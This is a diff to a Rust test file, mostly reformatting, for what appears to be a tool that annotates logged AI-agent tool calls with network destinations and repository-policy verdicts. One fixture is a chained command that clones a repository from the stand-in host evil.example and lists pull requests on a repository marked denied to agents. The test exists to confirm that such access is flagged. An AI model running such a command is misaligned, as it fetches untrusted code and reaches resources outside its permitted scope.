@@ -29,16 +29,31 @@ fn tool_call(command: &str) -> String {
 fn the_host_that_the_context_objects_to_is_the_one_shown() {
     let context = [
         ("networks.toml", "allowed_domains = [\"good.example\"]"),
-        ("repositories.toml", "[[repositories]]\nmatch = \"octo/secret\"\nagents = \"denied\""),
+        (
+            "repositories.toml",
+            "[[repositories]]\nmatch = \"octo/secret\"\nagents = \"denied\"",
+        ),
     ];
     let command = "curl https://good.example/a; git clone https://evil.example/octo/open; gh -R octo/secret pr list";
     let body = completed(&context, &tool_call(command));
     assert_eq!(text_at(&body, "destination.domain"), Some("evil.example"));
-    assert_eq!(text_at(&body, "url.full"), Some("https://evil.example/octo/open"));
-    assert_eq!(json(nested(&body, "chaperone.destination")), r#"{"allowed":false}"#);
+    assert_eq!(
+        text_at(&body, "url.full"),
+        Some("https://evil.example/octo/open")
+    );
+    assert_eq!(
+        json(nested(&body, "chaperone.destination")),
+        r#"{"allowed":false}"#
+    );
     assert_eq!(text_at(&body, "vcs.repository.name"), Some("octo/secret"));
-    assert_eq!(json(nested(&body, "chaperone.repository")), r#"{"agents":"denied"}"#);
-    assert_eq!(json(nested(&body, "related.hosts")), r#"["good.example","evil.example"]"#);
+    assert_eq!(
+        json(nested(&body, "chaperone.repository")),
+        r#"{"agents":"denied"}"#
+    );
+    assert_eq!(
+        json(nested(&body, "related.hosts")),
+        r#"["good.example","evil.example"]"#
+    );
 }
 
 #[test]
@@ -48,21 +63,31 @@ fn what_a_program_has_set_is_not_changed() {
         "destination":{"domain":"set.example"},"vcs":{"repository":{"name":"set/it"}},
         "url":{"domain":"mine.example"}}"#;
     let body = completed(&[], draft);
-    assert_eq!(json(nested(&body, "destination")), r#"{"domain":"set.example"}"#);
+    assert_eq!(
+        json(nested(&body, "destination")),
+        r#"{"domain":"set.example"}"#
+    );
     assert_eq!(json(nested(&body, "url")), r#"{"domain":"mine.example"}"#);
     assert_eq!(text_at(&body, "vcs.repository.name"), Some("set/it"));
 }
 
 #[test]
 fn a_url_is_a_destination_only_where_something_is_done() {
-    for (category, reached) in [("agent_tool_call", true), ("sandbox_network", true), ("code_change", false)] {
+    for (category, reached) in [
+        ("agent_tool_call", true),
+        ("sandbox_network", true),
+        ("code_change", false),
+    ] {
         let draft = format!(
             r#"{{"chaperone":{{"logsource":{{"category":"{category}"}}}},"url":{{"full":"https://192.0.2.7:8443/a?b#c"}}}}"#
         );
         let body = completed(&[], &draft);
         assert_eq!(json(nested(&body, "url.port")), "8443");
         assert_eq!(text_at(&body, "url.path"), Some("/a"));
-        assert_eq!(text_at(&body, "destination.ip"), reached.then_some("192.0.2.7"));
+        assert_eq!(
+            text_at(&body, "destination.ip"),
+            reached.then_some("192.0.2.7")
+        );
     }
 }
 
